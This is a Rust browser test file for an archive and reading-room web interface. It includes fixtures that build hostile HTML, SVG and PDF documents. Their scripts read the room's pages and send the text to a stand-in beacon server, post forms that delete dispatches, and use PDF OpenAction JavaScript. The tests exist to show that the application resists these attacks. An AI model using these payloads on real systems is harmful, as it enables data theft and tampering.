//! The pages of an archive and of the reading room, as the tools of others see them.

use std::collections::BTreeMap;
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};

use super::browser::Browser;
use super::engine::{Engine, SAFEST, Setting};
use super::robot::From;
use super::tour::State;
use super::{checks, screens};
use crate::common::dispatches::*;
use crate::common::large_set::{LargeSet, mailbox};
use crate::common::room::Reading;
use crate::common::*;
use crate::each_engine;
use sourdine::base::kind::DispatchKind;
use sourdine::bundle::manifest::Answer as Answered;

each_engine!(an_editor_reads_and_answers: Firefox, Chromium);

/// From the pages of the archive to a document in hand and a sealed answer, without a script.
fn an_editor_reads_and_answers(engine: Engine) {
    let desk = Desk::new();
    let dispatches = archive();
    ok(&mut desk.command(&dispatches, "archive"));
    let root = desk.path("archive");
    let browser = Browser::open(engine, SAFEST);
    // From the disk.
    browser.go(&format!("file://{}/index.html", root.display()));
    browser.must_say("h1", msg("room-mailboxes"));
    browser.follow("ul.files li:last-child a");
    browser.must_say("h1", "brave-heron");
    browser.must_say("section.card h2", "21 November 2026");
    browser.follow("header nav a[lang=ar]");
    assert_eq!(browser.attribute("html", "dir"), "rtl");
    browser.follow("main .tools a");
    browser.must_say("h1", msg_in("ar", "room-mailboxes"));

    // Over loopback: the next bundle, what it brought, a document, an answer, a note, a search.
    let reading = Reading::begin(&root, &desk.editor);
    let next = Dispatch::new("zeal-owl", "Le prochain").with("contrat.txt", b"le contrat");
    crate::common::dispatches::bundle(&desk.path("next.tar"), &desk.editor, &[next]);
    browser.go(&format!("{}?lang=en", reading.address));
    browser.choose("#bundles", &[desk.path("next.tar")]);
    browser.follow("#open button");
    browser.must_say("h1", msg("room-opened-title"));
    browser.follow("main ul.files a");
    browser.must_say("h1", "zeal-owl");
    browser.click("section.card a[download]");
    assert_eq!(fs::read(browser.downloaded("contrat.txt")).unwrap(), b"le contrat");
    browser.type_in("#message", "Merci !");
    browser.follow("#reply button");
    browser.must_say("h1", msg("room-sealed-title"));
    let place = browser.see("bdi.place");
    assert!(std::path::Path::new(&place).exists(), "{place}");
    browser.follow("main a.button");
    browser.must_say("main .notice", msg("room-outbox-text"));
    browser.type_in("#own", "Rappeler");
    browser.follow("#notes button");
    browser.must_say("main [role=status]", msg("room-notes-saved"));
    browser.follow("main .tools a");
    browser.type_in("#q", "contrat");
    browser.follow("main form button");
    browser.must_say("main ul.files", "contrat.txt");
    // The address in the browser says nothing of what was searched.
    assert!(!browser.page().lines().next().unwrap().contains("contrat"), "{}", browser.page());
    browser.follow("header nav a[lang=fr]");
    browser.must_say("h1", msg_in("fr", "room-mailboxes"));
}

/// An archive with everything that a page can show.
fn archive() -> Vec<Dispatch> {
    let long = "a".repeat(180);
    let mut sent = Dispatch::new("brave-heron", "Bonjour,\n<b>voici</b> la délibération.\u{1b}")
        .with("délibération n°4.pdf", b"%PDF")
        .with(&format!("{long}.txt"), b"long")
        .with("وثيقة.pdf", b"%PDF");
    sent.manifest.answers = vec![Answered {
        id: "town".into(),
        label: "Quelle ville ?".into(),
        value: "Besançon\nمدينة".into(),
    }];
    let mut reply = Dispatch::new("brave-heron", "Merci !").with("page.html", b"<p>");
    reply.manifest.kind = DispatchKind::Reply;
    reply.manifest.dispatch = "1".repeat(32);
    reply.manifest.source_recipients.clone_from(&sent.manifest.source_recipients);
    let arabic = Dispatch::new("calm-fox", "مرحبا، هذه وثيقة (1).\nA line in English.");
    vec![sent, reply, arabic]
}

/// Every page, in every language.
fn states(desk: &Desk) -> Vec<State> {
    let dispatches = archive();
    ok(&mut desk.command(&dispatches, "archive"));
    // What was altered since is missing.
    let root = desk.path("archive");
    let record = root.join(dispatches[0].place()).join("record.json");
    let json = fs::read_to_string(&record).unwrap();
    let broken = json.replacen("\"number\": 2,", "\"number\": 2, \"fault\": \"altered\",", 1);
    let layered = "\"number\": 1, \"opened\": [{\"name\": \"x.pdf\", \"size\": 1, \"sha256\": \"00\"}], \
        \"left\": \"other-key\",";
    fs::write(&record, broken.replacen("\"number\": 1,", layered, 1)).unwrap();
    let reading = Reading::begin(&root, &desk.editor);
    let again = format!("bundles=@{}", desk.path("archive.tar").display());
    let other = Editor::new(desk.dir.path(), "other");
    crate::common::dispatches::bundle(
        &desk.path("other.tar"),
        &other,
        &[Dispatch::new("zeal-owl", "x")],
    );
    let closed = format!("bundles=@{}", desk.path("other.tar").display());
    let mailbox = "mailbox/brave-heron";
    let mut states = Vec::new();
    for lang in ["en", "fr", "ar"] {
        let ask = |path: &str, args: &[&str]| reading.ask(&format!("{path}?lang={lang}"), args);
        let mut add = |name, answer| {
            states.push(State { lang: lang.into(), name, from: From::default(), answer });
        };
        add("room-index", ask("", &[]));
        add("room-notes", ask(&format!("{mailbox}/notes"), &["-d", "notes=x"]));
        add("room-mailbox", ask(mailbox, &[]));
        add("room-arabic", ask("mailbox/calm-fox", &[]));
        add("room-found", ask("search", &["-d", "q=a"]));
        add("room-nothing", ask("search", &["-d", "q=zzz"]));
        add("room-opened", ask("open", &["-F", &again]));
        add("room-closed", ask("open", &["-F", &closed]));
        add("room-empty-answer", ask(&format!("{mailbox}/reply"), &["-F", "message="]));
        add("room-question", ask(&format!("{mailbox}/delete"), &["-d", "dispatch="]));
        add("room-sealed", ask("mailbox/calm-fox/reply", &["-F", "message=x"]));
        add("room-problem", ask("nowhere", &[]));
        let page = |name: &str| {
            let file =
                if lang == "en" { "index.html".into() } else { format!("index.{lang}.html") };
            let bytes = fs::read(root.join(name).join(file)).unwrap();
            let headers = "HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\n".into();
            Answer { status: 200, headers, bytes }
        };
        add("archive-index", page(""));
        add("archive-mailbox", page("brave-heron"));
    }
    states
}

#[test]
fn every_page_of_an_archive_and_of_its_room() {
    let desk = Desk::new();
    let states = states(&desk);
    // The checker takes every inline style for one that a policy in the page itself forbids, and reads no hash:
    // `archive::pages_show_hostile…` compares it, and the browsers below apply it.
    let without_policy = |state: &State| {
        let html = String::from_utf8(state.answer.bytes.clone()).unwrap();
        let lines = html.lines().filter(|line| !line.contains("http-equiv"));
        let bytes = lines.flat_map(|line| [line, "\n"]).collect::<String>().into();
        let answer = Answer { bytes, ..state.answer.clone() };
        State { lang: state.lang.clone(), name: state.name, from: From::default(), answer }
    };
    let checked: Vec<_> = states.iter().map(without_policy).collect();
    side_by_side(&[
        ("valid HTML", &|| checks::the_html_of_every_page_is_valid(&checked, "room")),
        ("no barrier", &|| checks::axe_finds_no_barrier_on_any_page(&states)),
        ("fits", &|| screens::every_page_fits_and_is_one_request(Engine::Firefox, &states)),
    ]);
}

each_engine!(a_hostile_document_neither_reads_the_room_nor_writes_to_it: Firefox; long: Chromium);

/// Somebody's server: what was asked of it.
struct Beacons {
    base: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Beacons {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let noted = asked.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut line = String::new();
                let _ = BufReader::new(&stream).read_line(&mut line);
                noted.lock().unwrap().extend(line.split(' ').nth(1).map(ToOwned::to_owned));
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\nconnection: close\r\n\
                      content-length: 0\r\n\r\n",
                );
            }
        });
        Self { base, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// What a document tries by a script, at each of these addresses; at last it says that it is done.
fn attack(beacon: &str, rooms: &[String]) -> String {
    let rooms = rooms.iter().map(|room| format!("'{room}'")).collect::<Vec<_>>().join(",");
    format!(
        "const say = what => fetch('{beacon}/' + what, {{mode: 'no-cors'}});
        const read = text => text && say('read-' + encodeURIComponent(text.slice(0, 200)));
        const tries = [];
        for (const room of [{rooms}]) {{
            for (const mode of ['cors', 'no-cors'])
                for (const path of ['', 'mailbox/brave-heron', 'mailbox/brave-heron/transcript'])
                    tries.push(fetch(room + path, {{mode}}).then(r => r.text()).then(read));
            tries.push(new Promise(done => {{
                const ask = new XMLHttpRequest();
                ask.onload = () => done(read(ask.responseText));
                ask.onerror = done;
                ask.open('GET', room);
                ask.send();
            }}));
            for (const [path, fields] of [
                ['mailbox/brave-heron/delete', 'dispatch=&sure=yes'],
                ['mailbox/brave-heron/notes', 'notes=evil'],
            ]) {{
                const body = new URLSearchParams(fields);
                tries.push(fetch(room + path, {{method: 'POST', mode: 'no-cors', body}}));
            }}
            const body = new FormData();
            body.append('message', 'evil');
            const reply = room + 'mailbox/brave-heron/reply';
            tries.push(fetch(reply, {{method: 'POST', mode: 'no-cors', body}}));
        }}
        const sent = [...document.getElementsByTagName('form')].map(form => new Promise(done => {{
            document.getElementsByName(form.target)[0].onload = done;
            setTimeout(done, 3000);
            form.submit();
        }}));
        const all = [...tries, ...sent].map(tried => tried.catch(() => 0));
        Promise.all(all).then(() => say('done'));"
    )
}

/// A page that tries everything, also without a script.
fn hostile_page(beacon: &str, rooms: &[String]) -> String {
    let tags = rooms.iter().enumerate().map(|(n, room)| {
        format!(
            "<img src=\"{room}\"><iframe src=\"{room}\"></iframe><object data=\"{room}\"></object>
            <link rel=stylesheet href=\"{room}\"><script src=\"{room}\"></script>
            <iframe name=t{n}></iframe><form target=t{n} method=post
            action=\"{room}mailbox/brave-heron/delete\"><input name=dispatch><input name=sure value=yes></form>"
        )
    });
    format!(
        "<!doctype html><meta charset=utf-8><title>evil</title><body><p>x</p><img src=\"{beacon}/image\">{}
        <script>{}</script>",
        tags.collect::<String>(),
        attack(beacon, rooms)
    )
}

fn hostile_picture(beacon: &str, rooms: &[String]) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><title>evil</title><image href=\"{beacon}/image\"/>
        <script><![CDATA[{}]]></script></svg>",
        attack(beacon, rooms)
    )
}

/// One that opens an address, and asks by script and by form.
fn hostile_paper(beacon: &str, rooms: &[String]) -> Vec<u8> {
    let room = &rooms[0];
    let objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>".to_owned(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>>>".to_owned(),
        format!(
            "<</S/JavaScript/JS(app.launchURL('{beacon}/read-paper'\\);this.submitForm('{room}mailbox/brave-heron/delete'\\);)>>"
        ),
        format!("<</S/URI/URI({beacon}/read-uri)>>"),
    ];
    let mut pdf = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(&objects) {
        places.push(pdf.len());
        pdf.extend(format!("{number} 0 obj{object}endobj\n").bytes());
    }
    let table = pdf.len();
    pdf.extend(b"xref\n0 6\n0000000000 65535 f \n");
    for place in places {
        pdf.extend(format!("{place:010} 00000 n \n").bytes());
    }
    pdf.extend(format!("trailer<</Size 6/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n").bytes());
    pdf
}

fn a_hostile_document_neither_reads_the_room_nor_writes_to_it(engine: Engine) {
    let (desk, beacons) = (Desk::new(), Beacons::new());
    let nowhere = ["http://localhost:1/".to_owned()];
    let sent = Dispatch::new("brave-heron", "Une délibération")
        .with("page.html", hostile_page(&beacons.base, &nowhere).as_bytes())
        .with("picture.svg", hostile_picture(&beacons.base, &nowhere).as_bytes())
        .with("paper.pdf", &hostile_paper(&beacons.base, &nowhere));
    ok(&mut desk.command(std::slice::from_ref(&sent), "archive"));
    let archive = desk.path("archive");
    let content = |archive: &Path| -> BTreeMap<_, _> {
        files_below(archive)
            .into_iter()
            .map(|path| (path.clone(), fs::read(path).unwrap()))
            .collect()
    };
    let before = content(&archive);
    let reading = Reading::begin(&archive, &desk.editor);
    // The worst for us: scripts run.
    let browser = Browser::open(engine, Setting { scripts: true, ..SAFEST });

    // On our pages nothing of them runs, is shown or is linked.
    browser.go(&format!("file://{}/brave-heron/index.html", archive.display()));
    browser.must_say("section.card", "page.html");
    assert_eq!(browser.all("section.card [href], section.card [src]"), [""; 0]);
    browser.go(&format!("{}mailbox/brave-heron?lang=en", reading.address));
    let mut saved = Vec::new();
    for (number, name) in (1..).zip(["page.html", "picture.svg", "paper.pdf"]) {
        browser.click(&format!("section.card ul.files li:nth-child({number}) a[download]"));
        saved.push(browser.downloaded(name));
        assert_eq!(fs::read(&saved[number - 1]).unwrap(), sent.files[number - 1]);
        browser.must_say("h1", "brave-heron");
    }
    assert_eq!(beacons.asked(), [""; 0]);

    // A copy that is opened from the disk knows the machine, the room's name, and even its token.
    let (host, port) = (&reading.host, reading.port());
    let token = reading.address.rsplit('/').nth(1).unwrap();
    let rooms = [
        reading.address.clone(),
        format!("http://{host}/"),
        format!("http://127.0.0.1:{port}/{token}/"),
        format!("http://localhost:{port}/{token}/"),
    ];
    fs::write(&saved[0], hostile_page(&beacons.base, &rooms)).unwrap();
    fs::write(&saved[1], hostile_picture(&beacons.base, &rooms)).unwrap();
    fs::write(&saved[2], hostile_paper(&beacons.base, &rooms)).unwrap();
    for (done, path) in (1..).zip(&saved[..2]) {
        // A picture has no body to wait for.
        let address = serde_json::json!({ "url": format!("file://{}", path.display()) });
        browser.raw(hyper::Method::POST, "url", Some(address));
        wait_for("its script to end", || {
            let asked = beacons.asked();
            (asked.iter().filter(|path| *path == "/done").count() == done).then_some(())
        });
    }
    if engine == Engine::Firefox {
        browser.go(&format!("file://{}", saved[2].display()));
        browser.until("the paper", async || {
            let page = browser.client().find(fantoccini::Locator::Css(".page[data-loaded]")).await;
            page.map(Some)
        });
    }
    let asked = beacons.asked();
    assert!(!asked.iter().any(|path| path.contains("read-")), "{asked:?}");
    assert!(content(&archive) == before, "{:?}", files_below(&archive));
    // The room is there still, and a person who follows its address sees it.
    browser.go(&reading.address);
    browser.must_say("main", "brave-heron");
}

/// What 40 mailboxes look like: `tests/out/screens/chromium/room-*.png`.
#[test]
#[ignore = "long: pictures for people to look at"]
fn pictures_of_an_archive_and_its_room() {
    let desk = Desk::new();
    let set = LargeSet::new(desk.dir.path(), &desk.editor, 1 << 20);
    let archive = desk.path("archive");
    for bundle in &set.bundles {
        ok(&mut desk.editor.open([bundle], &archive));
    }
    let next = Dispatch::new("zeal-otter", "Le prochain").with("contrat.txt", b"le contrat");
    bundle(&desk.path("next.tar"), &desk.editor, &[next]);
    let reading = Reading::begin(&archive, &desk.editor);
    let browser = Browser::open(Engine::Chromium, SAFEST);
    for (width, height) in [(360, 640), (800, 900), (1280, 900)] {
        browser.resize(width, height);
        for lang in ["en", "fr", "ar"] {
            let page =
                if lang == "en" { "index.html".into() } else { format!("index.{lang}.html") };
            let picture = |name: &str| browser.picture(&format!("room-{width}-{lang}-{name}"));
            for (name, place) in [("static-list", ""), ("static-mailbox", &*mailbox(0))] {
                browser.go(&format!("file://{}/{place}/{page}", archive.display()));
                picture(name);
            }
            let go = |path: &str| browser.go(&format!("{}{path}?lang={lang}", reading.address));
            go("");
            picture("list");
            browser.type_in("#q", "وثيقة");
            browser.follow("main form[role=search] button");
            picture("found");
            go("");
            browser.choose("#bundles", &[desk.path("next.tar")]);
            browser.follow("#open button");
            browser.see("main .steps + div h1");
            picture("opened");
            go(&format!("mailbox/{}", mailbox(0)));
            browser.unfold();
            picture("mailbox");
            browser.type_in("#message", "Merci !");
            browser.follow("#reply button");
            picture("sealed");
            go(&format!("mailbox/{}", mailbox(0)));
            browser.follow("#end form button");
            picture("question");
        }
    }
}
